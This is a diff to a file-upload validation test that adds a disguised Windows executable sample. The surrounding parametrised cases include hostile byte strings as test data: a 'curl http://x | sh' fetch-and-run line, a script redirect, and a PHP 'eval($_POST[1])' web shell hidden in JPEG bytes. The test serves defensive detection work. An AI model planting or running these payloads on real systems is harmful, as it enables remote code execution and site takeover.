@@ -89,6 +89,7 @@ def test_a_jpg_holding_php_code_is_reported_as_not_what_its_name_says(settings):
         ("data.xlsx", b"%PDF-1.4 not a spreadsheet"),
         ("catatan.txt", b"#!/bin/sh\ncurl http://x | sh\n"),
         ("readme", b"<script>location='https://judi.example'</script>"),
+        ("arsip.dat", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"),  # a Windows program
         ("ok.jpg", jpeg_bytes()[:200] + b"<?php eval($_POST[1]); ?>"),
     ],
 )
